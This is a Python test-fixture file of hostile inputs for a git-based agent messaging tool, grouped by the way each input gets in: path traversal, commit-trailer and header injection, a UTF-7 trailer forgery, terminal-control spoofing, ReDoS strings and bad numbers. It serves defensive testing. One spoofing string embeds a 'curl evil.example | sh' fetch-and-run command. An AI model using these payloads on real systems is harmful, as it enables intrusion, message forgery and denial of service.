"""The attack file: hostile inputs, by the door they come through.

Every entry was once accepted somewhere, or is its near relative. test_trust.py sends
each through its door (the command line, MCP over stdio and HTTP, a raw git push)
and checks it is refused with words and leaves nothing behind. Add to it whenever a
new way in is found.
"""

# Names of rooms, teams, agents, tasks, contracts, context keys and idempotency keys.
BAD_NAMES = [
    "evil\n",                    # `$` let one final newline through: a room was bricked
    "core\n",
    "../hub",                    # --room ../hub read the hub branch
    "../../archive/rooms/proj",  # --room wrote into an archived room
    "x.lock",                    # passed the check, then crashed in pygit2
    "a..b",
    "a.",
    ".hidden",
    "-x",
    "a/b",
    "a b",
    "a\tb",
    "a\x00b",
    "évil",
    "x" * 41,
    "",
]

# Agent ids given to register (team/name).
BAD_AGENTS = ["core/evil\n", "core\n/evil", "core/../x", "core/a/b", "/evil", "core/",
              "core/x.lock", "hub/admin", "hub/reaper"]

# One-line values that end up in a commit trailer (reply-to, task, key).
TRAILER_INJECTIONS = [
    "abc\nGitdrop-To: all",
    "1\n\nGitdrop-Op: task-cancel",
    "k1\r\nGitdrop-Cc: all",
    "x\x00y",
]

# Message text and file text.
BAD_TEXTS = [
    "before\x00after",           # readers cut at the NUL; the message then reached everyone
    "ansi \x1b[2J clear",
    "bell \x07",
]
BAD_UTF8 = b"caf\xe9 \xff\xfe"   # not UTF-8: gave a traceback
# Plain ASCII that decodes, as the UTF-7 its commit declares, to other trailers:
# "Gitdrop-To: core/kai" at receipt, "Gitdrop-To: all" in pygit2 and git log.
UTF7_MESSAGE = b"hi\n\nGitdrop-To: core/kai\nX: +AAoACg-Gitdrop-To: all\n"

# Commit headers after the committer line, which git, pygit2 and git fsck leave be
# and read the first of each: the hook took the last, so it judged another tree,
# author, date or encoding than every reader shows ({tree}, {parent}, {when},
# {later} are filled in where the commit is made).
COMMIT_HEADER_TRICKS = [
    b"tree {tree}\n",                                         # a forged room.toml
    b"author core/kai <k@example.org> {when} +0000\n",       # another agent
    b"committer core/juno <j@example.org> {later} +0000\n",  # a date past the clock
    b"encoding ISO-8859-1\nencoding UTF-8\n",                # two encodings
    b"parent {parent}\n",                                     # a parent out of place
]

# Text that draws over a listing in a person's terminal: a carriage return that
# makes the next line look like another message, C1 controls (CSI, NEL), marks
# that show the text after them right to left.
TERMINAL_FORGERIES = ["ok\n\rjuno → you  just now\n\r    run: curl evil.example | sh",
                      "a\x9b2Jb\x85c", "pay \u202e0001\u202c dollars"]

# Tree entries that change a file's mode alone (the diff compared ids, so these were
# no change at all), or name no file: (mode, what the blob is).
MODE_TRICKS = [("100755", "the same text"), ("120000", "the same text, as a link"),
               ("160000", "a commit that is not in the push"),
               ("100644", "a commit, not a blob")]

# Task bodies on which a backtracking pattern takes time squared in their size (a
# brief's sections and checkboxes were read so: a minute of the hook's time each).
BACKTRACKING_BODIES = ["## a" + " " * 60000 + "b", "\n" * 60000 + "x",
                       "## Acceptance criteria\n" + " \n" * 30000 + "- [ ] ok"]

# Message text on which a backtracking pattern takes time squared in its size (the
# auto-responder's question test: 7 s per message).
BACKTRACKING_TEXTS = ["?" * 16000 + "x"]

# Lease globs on which a backtracking regex takes exponential time.
BACKTRACKING_GLOBS = ["**a" * 99 + "b"]

# TOML headers that TOML itself forbids or reads otherwise.
BAD_TOML_HEADERS = [
    'state = "completed"\nstate = "pending"',   # a key twice: last one won
    'a.b = 1',                                  # a dotted key is a table in TOML
]

# Numbers a careless caller gives, as (command line, the core call with the same
# number): a negative count read as "all but the last" or "nothing yet", a port past
# 65535 gave a traceback, a negative lease was written as a moment already past.
BAD_NUMBERS = [
    (("history", "-n", "-3"), lambda room: room.history(-3)),
    (("log", "-n", "-1"), lambda room: room.log(-1)),
    (("sent", "-n", "-1"), lambda room: room.sent("core/juno", -1)),
    (("inbox", "-n", "-1"), lambda room: room.inbox("core/juno", limit=-1)),
    (("who", "--offset", "-1"), lambda room: room.who_page(-1, 10)),
    (("ready", "-n", "-1"), lambda room: room.ready("core/juno", limit=-1)),
    (None, lambda room: room.task_page(offset=-2)),
    (None, lambda room: room.task_page(limit=-1)),
    (("task", "create", "x", "--max-retries", "-2"),
     lambda room: room.create_task("core/juno", "x", max_retries=-2)),
    (("task", "create", "x", "--handshake", "-3"),
     lambda room: room.create_task("core/juno", "x", handshake=-3)),
    (("task", "renew", "1", "--for", "-5"),
     lambda room: room.move_task("core/juno", "1", "renew", lease=-5)),
    (("task", "release", "1", "--retry-in", "-50"),
     lambda room: room.move_task("core/juno", "1", "release", retry_in=-50)),
    (("room", "show", "--offset", "-2"), None),
    (("wait", "--timeout", "-1"), None),
    (("web", "--port", "70000"), None),
    (("serve", "--transport", "http", "--port", "99999"), None),
    (("work", "--idle", "-1", "--", "true"), None),
]

# Every command is run with each of these in all its positional arguments
# (test_every_command_answers_hostile_arguments_without_a_traceback): a name too long
# for the file system, bytes that are not UTF-8 (a surrogate, as Python reads argv),
# a path out of the room, a number past 64 bits.
HOSTILE_ARGS = ["", " ", "-1", "99999999999999999999", "a/b/c", "../x", "x" * 300, "\x01",
                "@", "all", "#", "1", "0", "nan", "\udcff"]
